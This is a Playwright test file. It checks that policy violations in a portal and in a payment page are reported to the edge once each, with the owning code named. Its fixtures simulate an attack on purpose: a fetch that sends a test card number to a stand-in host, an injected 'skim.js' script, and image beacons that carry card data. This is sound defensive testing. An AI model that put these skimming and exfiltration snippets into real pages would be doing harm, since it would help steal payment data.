/** Each violation of a page's policy is reported to the edge: once, with the owner of the code, and with nothing that identifies the person. */
import type { BrowserContext, Page } from '@playwright/test';
import type { Telemetry } from '@portal/shared/remote/telemetry.ts';
import type { Violation } from '@portal/shared/remote/violations.ts';
import type { Origin } from '../../../deploy/http/headers.ts';
import type { Addresses } from '../../../deploy/testbed/testbed.ts';
import { containerOf } from '../../../deploy/release/container.ts';
import { expect, test } from '../../../deploy/testbed/journey.ts';
import { openEdge } from './own-edge.ts';
import {
  changed,
  deliver,
  inForceAt,
  own,
  releaseWith,
  REMOTE,
  signRegistry,
} from '../../../deploy/testbed/registry.ts';

/** An edge that puts `markup` at the head of every page. */
const edgeWith = (kind: Origin, testbed: Addresses, markup: string) =>
  openEdge(kind, testbed, (edge) => {
    edge.addHook('onRequest', async ({ headers }) => {
      headers['accept-encoding'] = 'identity';
    });
    edge.addHook('onSend', async (_request, _reply, payload) =>
      Buffer.isBuffer(payload) ? payload.toString().replace('<head>', `<head>${markup}`) : payload,
    );
  });

const violation = (policy: string, blocked: string, owner: string): Violation => ({
  kind: 'violation',
  policy,
  blocked,
  owner,
});

const inOrder = (lines: readonly Telemetry[]) => lines.map((line) => JSON.stringify(line)).sort();

/**
 * A report that is sent last. When it has arrived, all earlier reports have arrived, including any unwanted second report of the same
 * violation.
 */
const LAST: Telemetry = {
  kind: 'load',
  remote: 'the-journey',
  version: '1.0.0',
  ring: 'stable',
  outcome: 'ended',
  milliseconds: 0,
};

async function expectNoted(page: Page, noted: readonly Telemetry[], expected: readonly Violation[]): Promise<void> {
  const violations = () => inOrder(noted.filter(({ kind }) => kind === 'violation'));
  await expect.poll(violations).toEqual(inOrder(expected));
  await page.evaluate((line) => void navigator.sendBeacon('/telemetry', line), JSON.stringify(LAST));
  await expect.poll(() => noted).toContainEqual(LAST);
  expect(violations()).toEqual(inOrder(expected));
}

const FOLDER = `/releases/${REMOTE}/1.1.0/`;

/** A release of a remote that violates every policy. */
const APP = `{
  mount: async () => {
    new Image().src = 'https://elsewhere.example/pixel.png';
    fetch('https://elsewhere.example/take?card=4111111111111111').catch(() => undefined);
    const script = document.createElement('script');
    try { script.src = 'https://elsewhere.example/skim.js'; } catch {}
    script.src = '${FOLDER}more.js';
    document.head.append(script);
  },
  unmount: async () => {},
}`;

async function releaseTo(context: BrowserContext, testbed: Addresses, path: string): Promise<void> {
  const entry = containerOf(REMOTE, '1.1.0', APP);
  const registry = await inForceAt(testbed);
  const screens = [{ path, access: 'public' as const }];
  const stable = { ...releaseWith(own(registry), '1.1.0', entry), portal: 'public' as const, screens };
  await deliver(context, signRegistry(changed(registry, (copy) => Object.assign(own(copy), { stable }))));
  await context.route(`**${FOLDER}remoteEntry.js*`, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: entry }),
  );
}

test.describe('policy violations are reported', () => {
  test('in the portal: the content, integrity and Trusted Types policies, of the page and of a remote', async ({
    page,
    context,
    testbed,
    guard,
  }) => {
    guard.allow(/./);
    const { version } = own(await inForceAt(testbed)).stable;
    const known = `/releases/${REMOTE}/${version}/remoteEntry.js`;
    const edge = await edgeWith('portal', testbed, `<script>canary = 1</script><script src="${known}"></script>`);
    try {
      await releaseTo(context, testbed, '/door');
      await page.goto(`${edge.origin}/door`);
      await expectNoted(page, edge.noted, [
        violation('script-src-elem', 'inline', 'shell'),
        violation('integrity', edge.origin + known, `${REMOTE}@${version}`),
        // Browsers do not say which script requested a picture.
        violation('img-src', 'https://elsewhere.example/pixel.png', 'shell'),
        violation('connect-src', 'https://elsewhere.example/take', `${REMOTE}@1.1.0`),
        violation('require-trusted-types-for', 'trusted-types-sink', `${REMOTE}@1.1.0`),
        violation('integrity', `${edge.origin}${FOLDER}more.js`, `${REMOTE}@1.1.0`),
      ]);
    } finally {
      await edge.close();
    }
  });

  test('in a payment page: the content, integrity and Trusted Types policies, also for files that differ from the released files', async ({
    page,
    context,
    testbed,
    guard,
  }) => {
    guard.allow(/./);
    const edge = await edgeWith('payer', testbed, '<script>canary = 1</script><script src="/skim.js"></script>');
    try {
      const styles = page.waitForRequest(/\/main\.\w+\.css$/);
      await context.route(/\/main\.\w+\.css$/, async (route) => {
        const answer = await route.fetch();
        return route.fulfill({ response: answer, body: `${await answer.text()}\nbody { opacity: 0; }` });
      });
      await page.goto(`${edge.origin}/pay/bill/00000000-0000-4000-8000-000000000000`);
      await expect(page.getByRole('button')).toBeVisible();
      const script = await page.evaluate(() => {
        const own = document.querySelector<HTMLScriptElement>('script[integrity]');
        const other = Object.assign(document.createElement('script'), {
          src: own?.src,
          integrity: `sha384-${'A'.repeat(64)}`,
          crossOrigin: 'anonymous',
        });
        document.head.append(other);
        try {
          document.body.innerHTML = '<b>Pay here</b>';
        } catch {
          new Image().src = 'https://elsewhere.example/pixel.png?card=4111111111111111';
        }
        return other.src;
      });
      await expectNoted(page, edge.noted, [
        violation('script-src-elem', 'inline', 'mfe-public-pay'),
        violation('integrity', `${edge.origin}/skim.js`, 'mfe-public-pay'),
        violation('integrity', (await styles).url(), 'mfe-public-pay'),
        violation('integrity', script, 'mfe-public-pay'),
        violation('require-trusted-types-for', 'trusted-types-sink', 'mfe-public-pay'),
        violation('img-src', 'https://elsewhere.example/pixel.png', 'mfe-public-pay'),
      ]);
    } finally {
      await edge.close();
    }
  });
});
